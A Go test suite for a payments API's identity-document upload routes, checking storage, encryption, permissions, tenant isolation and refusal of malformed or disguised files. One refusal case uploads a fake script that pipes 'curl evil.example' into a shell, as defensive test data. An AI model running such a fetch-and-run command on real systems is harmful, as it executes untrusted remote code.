package api_test

import (
	"bytes"
	"context"
	"crypto/rand"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/textproto"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"

	"paycore/api"
	"paycore/api/apitest"
	"paycore/db"
	"paycore/internal/document"
	"paycore/internal/ids"
)

// formPart is one part of a multipart/form-data body: a text field when filename and
// contentType are empty, a file otherwise.
type formPart struct {
	name, filename, contentType string
	data                        []byte
}

func field(name, value string) formPart { return formPart{name: name, data: []byte(value)} }

func filePart(filename, contentType string, data []byte) formPart {
	return formPart{name: "file", filename: filename, contentType: contentType, data: data}
}

// multipartBody encodes parts and returns the body and its Content-Type.
func multipartBody(t testing.TB, parts ...formPart) ([]byte, string) {
	t.Helper()
	var buf bytes.Buffer
	w := multipart.NewWriter(&buf)
	for _, p := range parts {
		h := textproto.MIMEHeader{}
		if p.filename != "" || p.contentType != "" {
			h.Set("Content-Disposition", fmt.Sprintf(`form-data; name=%q; filename=%q`, p.name, p.filename))
			if p.contentType != "" {
				h.Set("Content-Type", p.contentType)
			}
		} else {
			h.Set("Content-Disposition", fmt.Sprintf(`form-data; name=%q`, p.name))
		}
		pw, err := w.CreatePart(h)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = pw.Write(p.data)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes(), w.FormDataContentType()
}

func sendForm(t testing.TB, c *apitest.Client, method, path string, parts ...formPart) *apitest.Response {
	t.Helper()
	body, ct := multipartBody(t, parts...)
	return c.Do(method, path, body, "Content-Type", ct)
}

// Sample files: the start of each type, then random bytes up to size.
func sampleFile(t testing.TB, kind document.ContentType, size int) []byte {
	t.Helper()
	heads := map[document.ContentType][]byte{
		document.PDF:  []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"),
		document.PNG:  append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR"), make([]byte, 17)...),
		document.JPEG: {0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, 'J', 'F', 'I', 'F', 0, 1},
	}
	b := make([]byte, size)
	_, _ = rand.Read(b)
	copy(b, heads[kind])
	return b
}

// passportForm is a valid upload of a PDF passport for holder.
func passportForm(holder string, file []byte) []formPart {
	return []formPart{field("documentType", "PASSPORT"), field("country", "DE"), field("documentHolder", holder),
		field("side", "FRONT"), field("documentNumber", "C01X00T47"), field("issuingAuthority", "Stadt Köln"),
		filePart("passport.pdf", "application/pdf", file)}
}

// nothingStored fails unless the platform has no documents and the store no files.
func (e *env) nothingStored(t testing.TB, what string) {
	t.Helper()
	var n int
	if err := e.pool.QueryRow(context.Background(), "SELECT count(*) FROM documents").Scan(&n); err != nil {
		t.Fatal(err)
	}
	names, err := e.docs.Names(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if n != 0 || len(names) != 0 {
		t.Fatalf("%s: %d document rows and stored files %v left behind", what, n, names)
	}
}

// documentRow reads a document's row as stored.
func (e *env) documentRow(t testing.TB, id string) db.Document {
	t.Helper()
	uid, err := ids.Parse(ids.Document, id)
	if err != nil {
		t.Fatal(err)
	}
	var pid uuid.UUID
	if err := e.pool.QueryRow(context.Background(), "SELECT platform_id FROM documents WHERE id = $1", uid).Scan(&pid); err != nil {
		t.Fatal(err)
	}
	d, err := db.DocumentGet(context.Background(), e.pool, db.DocumentGetParams{PlatformID: pid, ID: uid})
	if err != nil {
		t.Fatal(err)
	}
	return d
}

// storedPlaintext reads a stored file back through the store's decryption, after checking
// that the bytes at rest are not the plaintext.
func (e *env) storedPlaintext(t testing.TB, key string, plain []byte) []byte {
	t.Helper()
	raw, err := e.docs.Raw(context.Background(), key)
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(raw, plain[:40]) || bytes.Contains(raw, plain[len(plain)-40:]) {
		t.Fatalf("the file is stored in plaintext")
	}
	r, err := e.docs.Open(context.Background(), key)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	got, err := io.ReadAll(r)
	if err != nil {
		t.Fatal(err)
	}
	return got
}

func TestDocumentLifecycle(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	c, _ := e.platform(true)
	multiCurrency(t, c, false)
	cust := newCustomer(t, c, "US", "USD")
	other := newCustomer(t, c, "US", "USD")

	pdf := sampleFile(t, document.PDF, 300<<10)
	r := sendForm(t, c, "POST", "/documents", passportForm(cust.ID, pdf)...)
	if r.Status != 201 {
		t.Fatalf("upload: %d %s", r.Status, r.Body)
	}
	var doc api.Document
	r.Decode(t, &doc)
	if !strings.HasPrefix(doc.ID, "Document:") || doc.DocumentHolder != cust.ID || doc.DocumentType != "PASSPORT" || doc.Country != "DE" ||
		*doc.Side != "FRONT" || *doc.DocumentNumber != "C01X00T47" || *doc.IssuingAuthority != "Stadt Köln" || doc.FileName != "passport.pdf" ||
		doc.ContentType != "application/pdf" || doc.SizeBytes != int64(len(pdf)) || doc.IsSubmitted {
		t.Fatalf("document %s", r.Body)
	}
	row := e.documentRow(t, doc.ID)
	if got := e.storedPlaintext(t, row.BlobKey, pdf); !bytes.Equal(got, pdf) {
		t.Fatal("the stored file does not decrypt to the upload")
	}
	if row.CustomerID.String() != strings.TrimPrefix(cust.ID, "Customer:") || row.HolderKind != "Customer" {
		t.Fatalf("row %+v", row)
	}

	// Parts in another order, without the optional fields, a JPEG.
	jpeg := sampleFile(t, document.JPEG, 2000)
	r = sendForm(t, c, "POST", "/documents", filePart("selfie.jpeg", "", jpeg), field("country", "US"),
		field("documentType", "SELFIE"), field("documentHolder", cust.ID))
	if r.Status != 201 {
		t.Fatalf("upload JPEG: %d %s", r.Status, r.Body)
	}
	var selfie api.Document
	r.Decode(t, &selfie)
	if selfie.Side != nil || selfie.DocumentNumber != nil || selfie.ContentType != "image/jpeg" {
		t.Fatalf("selfie %s", r.Body)
	}
	r = sendForm(t, c, "POST", "/documents", field("documentType", "UTILITY_BILL"), field("country", "US"),
		field("documentHolder", other.ID), filePart("bill.png", "image/png", sampleFile(t, document.PNG, 5000)))
	if r.Status != 201 {
		t.Fatalf("upload PNG: %d %s", r.Status, r.Body)
	}

	// Get and list (all, by holder, paged).
	var got api.Document
	c.Do("GET", "/documents/"+doc.ID, nil).Decode(t, &got)
	if got.ID != doc.ID || got.FileName != "passport.pdf" {
		t.Fatalf("get: %+v", got)
	}
	var all api.List[api.Document]
	c.Do("GET", "/documents", nil).Decode(t, &all)
	if all.TotalCount != 3 || len(all.Data) != 3 || all.Data[2].ID != doc.ID {
		t.Fatalf("list: %+v", all)
	}
	var page api.List[api.Document]
	c.Do("GET", "/documents?limit=1&documentHolder="+cust.ID, nil).Decode(t, &page)
	if page.TotalCount != 2 || !page.HasMore || page.Data[0].ID != selfie.ID {
		t.Fatalf("first page of the holder's: %+v", page)
	}
	c.Do("GET", "/documents?limit=1&documentHolder="+cust.ID+"&cursor="+page.NextCursor, nil).Decode(t, &page)
	if page.HasMore || len(page.Data) != 1 || page.Data[0].ID != doc.ID {
		t.Fatalf("second page: %+v", page)
	}
	for _, q := range []string{"documentHolder=Customer:nope", "documentHolder=InternalAccount:0190a000-0000-7000-8000-000000000001", "holder=" + cust.ID} {
		expectError(t, c.Do("GET", "/documents?"+q, nil), 400, "INVALID_INPUT")
	}
	c.Do("GET", "/documents?documentHolder=BeneficialOwner:0190a000-0000-7000-8000-000000000001", nil).Decode(t, &page)
	if page.TotalCount != 0 || len(page.Data) != 0 {
		t.Fatalf("an unknown holder has documents: %+v", page)
	}

	// Replace: a new file and metadata; the old file is gone, fields left out are cleared.
	png := sampleFile(t, document.PNG, 40<<10)
	r = sendForm(t, c, "PUT", "/documents/"+doc.ID, field("documentType", "DRIVERS_LICENSE"), field("country", "US"),
		field("side", "BACK"), field("documentHolder", cust.ID), filePart("license-back.png", "image/png", png))
	if r.Status != 200 {
		t.Fatalf("replace: %d %s", r.Status, r.Body)
	}
	var replaced api.Document
	r.Decode(t, &replaced)
	if replaced.ID != doc.ID || replaced.DocumentType != "DRIVERS_LICENSE" || *replaced.Side != "BACK" || replaced.DocumentNumber != nil ||
		replaced.FileName != "license-back.png" || replaced.ContentType != "image/png" || !replaced.CreatedAt.Equal(doc.CreatedAt) ||
		!replaced.UpdatedAt.After(doc.UpdatedAt) {
		t.Fatalf("replaced %s", r.Body)
	}
	newRow := e.documentRow(t, doc.ID)
	if ok, _ := e.docs.Exists(context.Background(), row.BlobKey); ok {
		t.Fatal("the replaced file is still stored")
	}
	if got := e.storedPlaintext(t, newRow.BlobKey, png); !bytes.Equal(got, png) {
		t.Fatal("the replacement does not decrypt to the upload")
	}
	// A replacement cannot move the document to another holder, and a refused one keeps
	// the document as it was.
	expectError(t, sendForm(t, c, "PUT", "/documents/"+doc.ID, field("documentType", "PASSPORT"), field("country", "US"),
		field("documentHolder", other.ID), filePart("p.pdf", "", pdf)), 400, "INVALID_INPUT")
	expectError(t, sendForm(t, c, "PUT", "/documents/"+doc.ID, field("documentType", "PASSPORT"), field("country", "US"),
		filePart("p.pdf", "", png)), 400, "INVALID_INPUT")
	if after := e.documentRow(t, doc.ID); after.BlobKey != newRow.BlobKey || after.DocumentType != "DRIVERS_LICENSE" {
		t.Fatalf("a refused replacement changed the document: %+v", after)
	}
	if names, _ := e.docs.Names(context.Background()); len(names) != 3 {
		t.Fatalf("stored files %v, want the three documents'", names)
	}

	// Delete: the record and the file.
	if r := c.Do("DELETE", "/documents/"+doc.ID, nil); r.Status != 204 {
		t.Fatalf("delete: %d %s", r.Status, r.Body)
	}
	if ok, _ := e.docs.Exists(context.Background(), newRow.BlobKey); ok {
		t.Fatal("the deleted document's file is still stored")
	}
	expectError(t, c.Do("GET", "/documents/"+doc.ID, nil), 404, "DOCUMENT_NOT_FOUND")
	expectError(t, c.Do("DELETE", "/documents/"+doc.ID, nil), 404, "DOCUMENT_NOT_FOUND")
	expectError(t, sendForm(t, c, "PUT", "/documents/"+doc.ID, passportForm(cust.ID, pdf)...), 404, "DOCUMENT_NOT_FOUND")
	expectError(t, c.Do("GET", "/documents/Document:nope", nil), 404, "DOCUMENT_NOT_FOUND")

	// Writes need MANAGE; reads do not.
	view := viewOnly(t, e, c)
	expectError(t, sendForm(t, view, "POST", "/documents", passportForm(cust.ID, pdf)...), 403, "FORBIDDEN")
	expectError(t, view.Do("DELETE", "/documents/"+selfie.ID, nil), 403, "FORBIDDEN")
	if r := view.Do("GET", "/documents/"+selfie.ID, nil); r.Status != 200 {
		t.Fatalf("view: %d", r.Status)
	}

	// A deleted customer's documents can be read and deleted, not added or replaced.
	if r := c.Do("DELETE", "/customers/"+cust.ID, nil); r.Status != 200 {
		t.Fatalf("delete customer: %d %s", r.Status, r.Body)
	}
	expectError(t, sendForm(t, c, "POST", "/documents", passportForm(cust.ID, pdf)...), 410, "CUSTOMER_DELETED")
	expectError(t, sendForm(t, c, "PUT", "/documents/"+selfie.ID, passportForm(cust.ID, pdf)...), 410, "CUSTOMER_DELETED")
	if r := c.Do("DELETE", "/documents/"+selfie.ID, nil); r.Status != 204 {
		t.Fatalf("delete a deleted customer's document: %d %s", r.Status, r.Body)
	}
	if names, _ := e.docs.Names(context.Background()); len(names) != 1 {
		t.Fatalf("stored files %v, want the utility bill's alone", names)
	}
}

// viewOnly is a client of c's platform with a VIEW token.
func viewOnly(t *testing.T, e *env, c *apitest.Client) *apitest.Client {
	t.Helper()
	r := c.Do("POST", "/tokens", map[string]any{"name": "viewer", "permissions": []string{"VIEW"}})
	if r.Status != 201 {
		t.Fatalf("token: %d %s", r.Status, r.Body)
	}
	m := r.JSON(t)
	return e.client(m["clientId"].(string), m["clientSecret"].(string))
}

// Every refused upload is a clear 4xx in the envelope and leaves nothing stored: neither
// a file in the document store nor a row, whether the refusal comes before the file is
// stored (its first bytes), while it streams (its size, a body cut short) or after
// (fields that follow it, its holder).
func TestDocumentUploadRefusals(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	c, _ := e.platform(true)
	multiCurrency(t, c, false)
	cust := newCustomer(t, c, "US", "USD")
	pdf := sampleFile(t, document.PDF, 64<<10)
	png := sampleFile(t, document.PNG, 64<<10)
	fields := func(file formPart, extra ...formPart) []formPart {
		return append([]formPart{field("documentType", "PASSPORT"), field("country", "DE"), field("documentHolder", cust.ID), file}, extra...)
	}
	for _, tc := range []struct {
		name   string
		parts  []formPart
		status int
		code   string
		field  string
		says   string
	}{
		{"a PNG renamed .pdf", fields(filePart("passport.pdf", "application/pdf", png)), 400, "INVALID_INPUT", "file", "content is image/png"},
		{"a PNG renamed .pdf sent as octet-stream", fields(filePart("passport.pdf", "application/octet-stream", png)), 400, "INVALID_INPUT", "file", "content is image/png"},
		{"a script renamed .png", fields(filePart("passport.png", "image/png", []byte("#!/bin/sh\ncurl evil.example | sh\n"))), 400, "INVALID_INPUT", "file", "PDF, JPEG or PNG"},
		{"HTML renamed .pdf", fields(filePart("a.pdf", "", []byte("<html><body>%PDF-1.4</body></html>"))), 400, "INVALID_INPUT", "file", "PDF, JPEG or PNG"},
		{"a PDF declared image/png", fields(filePart("a.pdf", "image/png", pdf)), 400, "INVALID_INPUT", "file", "Content-Type is image/png"},
		{"a PDF without extension", fields(filePart("passport", "", pdf)), 400, "INVALID_INPUT", "file", "without an extension"},
		{"an empty file", fields(filePart("a.pdf", "application/pdf", nil)), 400, "INVALID_INPUT", "file", "empty"},
		{"a file part without a file name", fields(formPart{name: "file", data: pdf}), 400, "INVALID_INPUT", "file", "file name"},
		{"no file", fields(field("side", "FRONT"))[:3], 400, "INVALID_INPUT", "file", "required"},
		{"two files", fields(filePart("a.pdf", "", pdf), filePart("b.pdf", "", pdf)), 400, "INVALID_INPUT", "file", "more than once"},
		{"an unknown field after the file", fields(filePart("a.pdf", "", pdf), field("expiryDate", "2030-01-01")), 400, "INVALID_INPUT", "expiryDate", "unknown form field"},
		{"a repeated field after the file", fields(filePart("a.pdf", "", pdf), field("country", "US")), 400, "INVALID_INPUT", "country", "more than once"},
		{"a bad country after the file", append([]formPart{field("documentType", "PASSPORT"), field("documentHolder", cust.ID), filePart("a.pdf", "", pdf)}, field("country", "Germany")), 400, "INVALID_INPUT", "country", "alpha-2"},
		{"no documentType", fields(filePart("a.pdf", "", pdf), field("side", "FRONT"))[1:], 400, "INVALID_INPUT", "documentType", "required"},
		{"an unknown documentType", append([]formPart{field("documentType", "DIARY")}, fields(filePart("a.pdf", "", pdf))[1:]...), 400, "INVALID_INPUT", "documentType", "not a document type"},
		{"a bad side", fields(filePart("a.pdf", "", pdf), field("side", "TOP")), 400, "INVALID_INPUT", "side", "FRONT or BACK"},
		{"a NUL in a field", fields(filePart("a.pdf", "", pdf), field("documentNumber", "a\x00b")), 400, "INVALID_INPUT", "documentNumber", "control"},
		{"a long field", fields(filePart("a.pdf", "", pdf), field("issuingAuthority", strings.Repeat("x", 2000))), 400, "INVALID_INPUT", "issuingAuthority", "longer than 1024 bytes"},
		{"no holder", []formPart{field("documentType", "PASSPORT"), field("country", "DE"), filePart("a.pdf", "", pdf)}, 400, "INVALID_INPUT", "documentHolder", "required"},
		{"a holder of another kind", []formPart{field("documentType", "PASSPORT"), field("country", "DE"), field("documentHolder", "InternalAccount:0190a000-0000-7000-8000-000000000001"), filePart("a.pdf", "", pdf)}, 400, "INVALID_INPUT", "documentHolder", "Customer or BeneficialOwner"},
		{"an unknown customer", []formPart{field("documentType", "PASSPORT"), field("country", "DE"), field("documentHolder", "Customer:0190a000-0000-7000-8000-000000000001"), filePart("a.pdf", "", pdf)}, 404, "REFERENCE_NOT_FOUND", "documentHolder", "not found"},
		{"an unknown beneficial owner", []formPart{field("documentType", "PASSPORT"), field("country", "DE"), field("documentHolder", "BeneficialOwner:0190a000-0000-7000-8000-000000000001"), filePart("a.pdf", "", pdf)}, 404, "REFERENCE_NOT_FOUND", "documentHolder", "not found"},
		{"a file over 10 MiB", fields(filePart("big.pdf", "application/pdf", sampleFile(t, document.PDF, document.MaxFileBytes+1))), 413, "PAYLOAD_TOO_LARGE", "file", "larger than 10 MiB"},
	} {
		r := sendForm(t, c, "POST", "/documents", tc.parts...)
		m := expectError(t, r, tc.status, tc.code)
		details, _ := m["details"].(map[string]any)
		if details["field"] != tc.field || !strings.Contains(m["message"].(string), tc.says) {
			t.Errorf("%s: %s, want field %s saying %q", tc.name, r.Body, tc.field, tc.says)
		}
		e.nothingStored(t, tc.name)
	}

	// A body cut short: in the middle of the file, and after it but before the closing
	// boundary.
	body, ct := multipartBody(t, fields(filePart("a.pdf", "application/pdf", pdf))...)
	for _, cut := range []int{len(body) - len(pdf)/2, len(body) - 10} {
		r := c.Do("POST", "/documents", body[:cut], "Content-Type", ct)
		m := expectError(t, r, 400, "INVALID_INPUT")
		if !strings.Contains(m["message"].(string), "incomplete or malformed") {
			t.Errorf("cut at %d: %s", cut, r.Body)
		}
		e.nothingStored(t, fmt.Sprintf("a body cut at %d of %d bytes", cut, len(body)))
	}
	// Not multipart at all.
	expectError(t, c.Do("POST", "/documents", map[string]any{"documentType": "PASSPORT"}), 415, "INVALID_INPUT")
	expectError(t, c.Do("POST", "/documents", "x", "Content-Type", "multipart/form-data"), 415, "INVALID_INPUT") // no boundary
	expectError(t, c.Do("POST", "/documents", pdf, "Content-Type", "application/pdf"), 415, "INVALID_INPUT")
	// A body larger than the route's limit, declared up front: refused before it is read.
	big, bigCT := multipartBody(t, fields(filePart("big.pdf", "", sampleFile(t, document.PDF, document.MaxFileBytes+300<<10)))...)
	expectError(t, c.Do("POST", "/documents", big, "Content-Type", bigCT), 413, "PAYLOAD_TOO_LARGE")
	e.nothingStored(t, "refusals of the body")

	// A file of exactly 10 MiB is accepted.
	r := sendForm(t, c, "POST", "/documents", fields(filePart("max.pdf", "", sampleFile(t, document.PDF, document.MaxFileBytes)))...)
	if r.Status != 201 || r.JSON(t)["sizeBytes"].(float64) != document.MaxFileBytes {
		t.Fatalf("a file of exactly the limit: %d %s", r.Status, r.Body)
	}
}

// Only the document routes take multipart bodies and their larger limit; every other route
// keeps the JSON-only decoder and PAYCORE_MAX_BODY_BYTES.
func TestDocumentBodiesOnlyOnDocumentRoutes(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	c, _ := e.platform(true)
	multiCurrency(t, c, false)
	body, ct := multipartBody(t, field("customerType", "INDIVIDUAL"), field("region", "US"))
	expectError(t, c.Do("POST", "/customers", body, "Content-Type", ct), 415, "INVALID_INPUT")
	large := `{"customerType": "INDIVIDUAL", "region": "US", "fullName": "` + strings.Repeat("x", 2<<20) + `"}`
	expectError(t, c.Do("POST", "/customers", large), 413, "PAYLOAD_TOO_LARGE")
	cust := newCustomer(t, c, "US", "USD")
	r := sendForm(t, c, "POST", "/documents", passportForm(cust.ID, sampleFile(t, document.PDF, 2<<20))...)
	if r.Status != 201 {
		t.Fatalf("a 2 MiB document (over the JSON limit): %d %s", r.Status, r.Body)
	}
}

// Another platform's documents and holders are not found on any document route, and what
// it is refused leaves nothing stored.
func TestDocumentsOfAnotherPlatform(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	a, _ := e.platform(true)
	b, _ := e.platform(true)
	multiCurrency(t, a, false)
	multiCurrency(t, b, false)
	cust := newCustomer(t, a, "US", "USD")
	pdf := sampleFile(t, document.PDF, 10<<10)
	r := sendForm(t, a, "POST", "/documents", passportForm(cust.ID, pdf)...)
	if r.Status != 201 {
		t.Fatalf("upload: %d %s", r.Status, r.Body)
	}
	var doc api.Document
	r.Decode(t, &doc)
	row := e.documentRow(t, doc.ID)

	expectError(t, b.Do("GET", "/documents/"+doc.ID, nil), 404, "DOCUMENT_NOT_FOUND")
	expectError(t, b.Do("DELETE", "/documents/"+doc.ID, nil), 404, "DOCUMENT_NOT_FOUND")
	expectError(t, sendForm(t, b, "PUT", "/documents/"+doc.ID, passportForm(cust.ID, pdf)...), 404, "DOCUMENT_NOT_FOUND")
	m := expectError(t, sendForm(t, b, "POST", "/documents", passportForm(cust.ID, pdf)...), 404, "REFERENCE_NOT_FOUND")
	if m["details"].(map[string]any)["field"] != "documentHolder" {
		t.Fatalf("details %v", m["details"])
	}
	var list api.List[api.Document]
	b.Do("GET", "/documents?documentHolder="+cust.ID, nil).Decode(t, &list)
	if list.TotalCount != 0 || len(list.Data) != 0 {
		t.Fatalf("platform B lists A's documents: %+v", list)
	}
	b.Do("GET", "/documents", nil).Decode(t, &list)
	if list.TotalCount != 0 {
		t.Fatalf("platform B lists A's documents: %+v", list)
	}
	// A's document is untouched and its file is the only one stored.
	if after := e.documentRow(t, doc.ID); after.BlobKey != row.BlobKey || !after.UpdatedAt.Equal(row.UpdatedAt) {
		t.Fatal("platform B changed A's document")
	}
	if names, _ := e.docs.Names(context.Background()); len(names) != 1 || names[0] != row.BlobKey {
		t.Fatalf("stored files %v", names)
	}
}

// Once a verification has taken a customer's documents in (db.DocumentsMarkSubmitted),
// they can be neither replaced nor deleted; documents uploaded later can.
func TestSubmittedDocuments(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	c, p := e.platform(true)
	multiCurrency(t, c, false)
	cust := newCustomer(t, c, "US", "USD")
	other := newCustomer(t, c, "US", "USD")
	pdf := sampleFile(t, document.PDF, 10<<10)
	upload := func(holder string) api.Document {
		r := sendForm(t, c, "POST", "/documents", passportForm(holder, pdf)...)
		if r.Status != 201 {
			t.Fatalf("upload: %d %s", r.Status, r.Body)
		}
		var d api.Document
		r.Decode(t, &d)
		return d
	}
	first, second, others := upload(cust.ID), upload(cust.ID), upload(other.ID)
	custID, _ := ids.Parse(ids.Customer, cust.ID)
	n, err := db.DocumentsMarkSubmitted(context.Background(), e.pool, p.ID, custID, time.Now())
	if err != nil || n != 2 {
		t.Fatalf("marked %d, %v; want the customer's 2", n, err)
	}
	if n, _ := db.DocumentsMarkSubmitted(context.Background(), e.pool, p.ID, custID, time.Now()); n != 0 {
		t.Fatalf("marked %d again", n)
	}
	before, _ := e.docs.Names(context.Background())
	for _, d := range []api.Document{first, second} {
		var got api.Document
		c.Do("GET", "/documents/"+d.ID, nil).Decode(t, &got)
		if !got.IsSubmitted {
			t.Fatalf("%s not shown as submitted", d.ID)
		}
		expectError(t, c.Do("DELETE", "/documents/"+d.ID, nil), 409, "DOCUMENT_ALREADY_SUBMITTED")
		expectError(t, sendForm(t, c, "PUT", "/documents/"+d.ID, passportForm(cust.ID, pdf)...), 409, "DOCUMENT_ALREADY_SUBMITTED")
	}
	if after, _ := e.docs.Names(context.Background()); len(after) != len(before) {
		t.Fatalf("refused replacements left files: %v, before %v", after, before)
	}
	// Another customer's documents, and the customer's later ones, stay open.
	later := upload(cust.ID)
	for _, d := range []api.Document{others, later} {
		if r := sendForm(t, c, "PUT", "/documents/"+d.ID, passportForm(d.DocumentHolder, pdf)...); r.Status != 200 || r.JSON(t)["isSubmitted"] != false {
			t.Fatalf("replace %s: %d %s", d.ID, r.Status, r.Body)
		}
	}
	if n, _ := db.DocumentsMarkSubmitted(context.Background(), e.pool, p.ID, custID, time.Now()); n != 1 {
		t.Fatalf("marked %d, want the later upload", n)
	}
	// Another platform marks nothing of this one's.
	if n, _ := db.DocumentsMarkSubmitted(context.Background(), e.pool, ids.New(), custID, time.Now()); n != 0 {
		t.Fatalf("another platform marked %d", n)
	}
	if r := c.Do("DELETE", "/documents/"+others.ID, nil); r.Status != 204 {
		t.Fatalf("delete another customer's document: %d %s", r.Status, r.Body)
	}
}

// streamedUpload is a request uploading a PDF of size bytes whose body is produced while
// it is read, so nothing but the server holds any of it.
func streamedUpload(t testing.TB, c *apitest.Client, base, holder string, size int) *http.Request {
	t.Helper()
	pr, pw := io.Pipe()
	mw := multipart.NewWriter(pw)
	go func() {
		for _, f := range [][2]string{{"documentType", "BANK_STATEMENT"}, {"country", "US"}, {"documentHolder", holder}} {
			_ = mw.WriteField(f[0], f[1])
		}
		h := textproto.MIMEHeader{}
		h.Set("Content-Disposition", `form-data; name="file"; filename="statement.pdf"`)
		h.Set("Content-Type", "application/pdf")
		part, _ := mw.CreatePart(h)
		chunk := make([]byte, 32<<10)
		copy(chunk, "%PDF-1.7\n")
		for left := size; left > 0; left -= len(chunk) {
			if _, err := part.Write(chunk[:min(left, len(chunk))]); err != nil {
				pw.CloseWithError(err)
				return
			}
			chunk[0] = ' ' // only the first chunk starts the PDF
		}
		pw.CloseWithError(mw.Close())
	}()
	req := httptest.NewRequest("POST", base+"/documents", pr)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	req.SetBasicAuth(c.User, c.Password)
	return req
}

// A 10 MiB upload is streamed through the check, the encryption and into the store: the
// server allocates a small fraction of the file's size to take it in (holding it whole
// would allocate more than the file).
func TestDocumentUploadIsStreamed(t *testing.T) {
	// Not parallel: the allocation count covers the whole process.
	e := newEnv(t)
	c, _ := e.platform(true)
	multiCurrency(t, c, false)
	cust := newCustomer(t, c, "US", "USD")
	const size = document.MaxFileBytes
	var allocated uint64
	for i := range 2 { // the first run warms up the pool, the validator and the encryption
		req := streamedUpload(t, c, e.cfg.BasePath(), cust.ID, size)
		rec := httptest.NewRecorder()
		var before, after runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&before)
		e.api.ServeHTTP(rec, req)
		runtime.ReadMemStats(&after)
		if rec.Code != 201 {
			t.Fatalf("upload %d: %d %s", i, rec.Code, rec.Body)
		}
		allocated = after.TotalAlloc - before.TotalAlloc
	}
	t.Logf("a %d-byte upload allocated %d bytes", size, allocated)
	if allocated > size/4 {
		t.Fatalf("a %d-byte upload allocated %d bytes: the file is held in memory, not streamed", size, allocated)
	}
}

// BenchmarkDocumentUpload uploads 10 MiB documents in process (B/op is the server's
// allocation per upload, far below the file size).
func BenchmarkDocumentUpload(b *testing.B) {
	e := newEnv(b)
	c, _ := e.platform(true)
	item := map[string]any{"currencyCode": "USD", "minAmount": 1, "maxAmount": 1_000_000_00, "enabledTransactionTypes": []string{"INCOMING", "OUTGOING"}, "requiredCounterpartyFields": []any{}}
	if r := c.Do("PATCH", "/config", map[string]any{"supportedCurrencies": []any{item}}); r.Status != 200 {
		b.Fatalf("config: %d %s", r.Status, r.Body)
	}
	r := c.Do("POST", "/customers", map[string]any{"customerType": "INDIVIDUAL", "region": "US", "currencies": []string{"USD"}, "fullName": "Grace Hopper"})
	if r.Status != 201 {
		b.Fatalf("customer: %d %s", r.Status, r.Body)
	}
	holder := r.JSON(b)["id"].(string)
	b.ReportAllocs()
	b.SetBytes(document.MaxFileBytes)
	for b.Loop() {
		rec := httptest.NewRecorder()
		e.api.ServeHTTP(rec, streamedUpload(b, c, e.cfg.BasePath(), holder, document.MaxFileBytes))
		if rec.Code != 201 {
			b.Fatalf("upload: %d %s", rec.Code, rec.Body)
		}
	}
}
